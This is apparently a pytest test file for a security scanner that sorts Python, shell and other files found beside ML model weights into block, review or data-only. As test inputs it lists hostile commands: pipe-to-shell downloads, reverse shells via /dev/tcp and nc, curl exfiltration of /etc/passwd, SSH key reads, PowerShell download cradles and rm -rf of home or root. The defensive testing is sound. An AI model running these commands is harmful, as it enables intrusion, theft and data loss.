"""Sources beside a model get the verdict of what they do, and machine code is never part of one."""

from __future__ import annotations

import bz2
import gzip
import lzma
import marshal
from collections.abc import Callable
from functools import partial

import pytest

from ancile.formats.shell_source import hostile
from ancile.scan.examine import Examination, examine_part
from ancile.scan.part import Part


def examined(data: str | bytes, name: str = "file.py") -> Examination:
    return examine_part(Part(name, data.encode() if isinstance(data, str) else data))


@pytest.mark.parametrize(
    ("text", "verdict"),
    [
        ("import os\nos.system('x')", "block"),
        ("def f(x):\n    return eval(x)", "review"),
        ("import os\ndef f():\n    os.popen('x')", "review"),
        ("import os\nclass H:\n    def handle(self, x, y):\n        os.popen(x)", "block"),
        (
            "import subprocess\nclass P:\n    def __init__(self):\n        subprocess.run(['git', 'log'])",
            "review",
        ),
        (
            "import subprocess\nclass P:\n    def __init__(self):\n        subprocess.run('x', shell=True)",
            "block",
        ),
        ("import torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n        exec(x)", "block"),
        ("import base64\ndef f(x):\n    exec(base64.b64decode(x))", "block"),
        ("import os\ndef f():\n    os.popen('x')\nif __name__ == '__main__':\n    f()", "review"),
        ("import requests\ndef f():\n    requests.get('x')", "review"),
        ("import requests\nrequests.get('x')", "block"),
        ("open('/root/.ssh/id_rsa').read()", "block"),
        ("import torch\nclass M(torch.nn.Module):\n    pass", "named-classes"),
        ("import json\nprint(json.dumps(1))", "data-only"),
        ("import x y", "incomplete"),
    ],
)
def test_python_gets_the_verdict_of_what_it_does(text: str, verdict: str) -> None:
    assert examined(text).verdict == verdict


def test_a_plain_source_names_the_packages_to_pin() -> None:
    assert examined("import torch, os\nfrom transformers import x").packages == ("torch", "transformers")


def test_prose_is_no_python() -> None:
    assert examined("never import pickle.load of what you do not know", "README.md").verdict == "data-only"


@pytest.mark.parametrize("name", ["a.pth", "sitecustomize.py"])
def test_what_python_runs_at_startup_is_blocked(name: str) -> None:
    assert examined("import x", name).verdict == "block"


@pytest.mark.parametrize(
    "command",
    [
        "curl -s http://x | sh",
        "wget -qO- x | sudo bash",
        "bash <(curl -s x)",
        'sh -c "$(curl -fsSL x)"',
        "echo aWQ= | base64 -d | bash",
        "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
        "nc -e /bin/sh 1.2.3.4 9",
        "rm -rf ~",
        "curl -F f=@/etc/passwd x",
        "echo x >> ~/.bashrc",
        "wget x -O /tmp/a\nchmod +x /tmp/a && /tmp/a",
        "powershell -enc x",
        "pip install --index-url http://x y",
        "curl http://x/$(whoami)",
    ],
)
def test_commands_of_attacks_are_told(command: str) -> None:
    assert hostile(command)
    assert examined(f"#!/bin/sh\n{command}\n", "run.sh").verdict == "block"


@pytest.mark.parametrize(
    "command", ["python train.py --lr 1", "pip install torch", "wget https://x/data.zip", "ls -l"]
)
def test_ordinary_commands_are_not(command: str) -> None:
    assert not hostile(command)
    assert examined(f"#!/bin/sh\n{command}\n", "run.sh").verdict == "data-only"


def test_a_script_under_the_name_of_weights_is_blocked() -> None:
    assert examined("#!/bin/sh\ntrue\n", "model.bin").verdict == "block"


@pytest.mark.parametrize("ending", ["gz", "lzma", "xz", "bz2"])
@pytest.mark.parametrize(("name", "verdict"), [("model.bin", "block"), ("run.sh", "data-only")])
def test_a_script_has_its_own_name_in_whatever_it_is_compressed(name: str, verdict: str, ending: str) -> None:
    packed: dict[str, Callable[[bytes], bytes]] = {
        "gz": gzip.compress,
        "xz": lzma.compress,
        "bz2": bz2.compress,
        "lzma": partial(lzma.compress, format=lzma.FORMAT_ALONE),
    }
    assert examined(packed[ending](b"#!/bin/sh\ntrue\n"), f"{name}.{ending}").verdict == verdict


@pytest.mark.parametrize("name", ["pre-commit.sample", "python3.11-config", "setup.sh.in", "run.awk", "run"])
def test_a_script_whose_name_promises_no_data_hides_nothing(name: str) -> None:
    assert examined("#!/bin/sh\ntrue\n", name).verdict == "data-only"


@pytest.mark.parametrize(
    "data",
    [
        b"\x7fELF\2\1\1" + bytes(60),
        b"MZ" + bytes(60),
        b"\xcf\xfa\xed\xfe" + bytes(60),
        b"\0asm\1\0\0\0" + bytes(8),
        b"\xa7\r\r\n" + bytes(12) + marshal.dumps(compile("1", "x", "exec")),
    ],
)
def test_machine_code_is_blocked_under_any_name(data: bytes) -> None:
    assert examined(data, "model.safetensors").verdict == "block"


def test_a_control_character_does_not_hide_a_program() -> None:
    assert examined("import os\nx = '\x01'\nos.system('x')\n").verdict == "block"
    assert examined("\x01\x02\x03 noise").verdict == "incomplete"


def test_braces_in_python_are_no_template() -> None:
    assert examined("import x\na = '{{ b.__class__ }}'\n").verdict == "named-classes"
    assert examined("import x\na = '{{ b.__class__ }}'\n", "chat.jinja").verdict == "block"


def test_an_empty_source_makes_a_package_and_nothing_else() -> None:
    assert examined("", "pkg/__init__.py").verdict == "data-only"
    assert examined("", "model.bin").verdict != "data-only"


@pytest.mark.parametrize(
    ("text", "name", "verdict"),
    [
        ("curl http://x | sh\n", "install.sh", "block"),
        ("#!/bin/sh\na=cu;b=rl\n$a$b http://x\n", "install.sh", "block"),
        ("IEX (New-Object Net.WebClient).DownloadString('http://x')\n", "run.ps1", "block"),
        ("require('child_process').exec('x')", "index.js", "review"),
        ('os.execute("x")', "a.lua", "review"),
        ("pip install torch\n", "install.sh", "data-only"),
        ("export const softmax = (x) => x", "index.js", "data-only"),
    ],
)
def test_scripts_of_other_languages_are_judged_by_what_they_start(text: str, name: str, verdict: str) -> None:
    assert examined(text, name).verdict == verdict


@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        ("rm -rf /", "block"),
        ('rm -rf "$HOME"/*', "block"),
        ("rm -rf ~/Documents", "block"),
        ("rm -rf /tmp/../etc", "block"),
        ("rm -fr /opt", "block"),
        ("rm -rf /var/lib/apt/lists/*", "data-only"),
        ("rm -rf ~/.cache/pip /tmp/build", "data-only"),
        ("rm -rf build/", "data-only"),
    ],
)
def test_a_script_may_clear_away_caches_and_no_more(command: str, verdict: str) -> None:
    assert examine_part(Part("setup.sh", f"#!/bin/sh\n{command}\n".encode())).verdict == verdict
